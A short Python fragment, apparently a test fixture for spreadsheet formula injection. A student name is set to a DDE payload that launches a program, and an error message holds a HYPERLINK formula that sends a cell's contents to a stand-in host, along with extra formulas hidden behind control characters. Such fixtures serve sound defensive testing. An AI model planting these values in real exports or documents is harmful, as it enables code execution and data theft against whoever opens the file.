"""The student's name, and the error that the code ends in, are formulas to a spreadsheet.

student: =1+cmd|' C calc'!A0
"""
raise RuntimeError("=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"@SUM(1+1)\")\t=cmd\n=1+1\r=2+2")
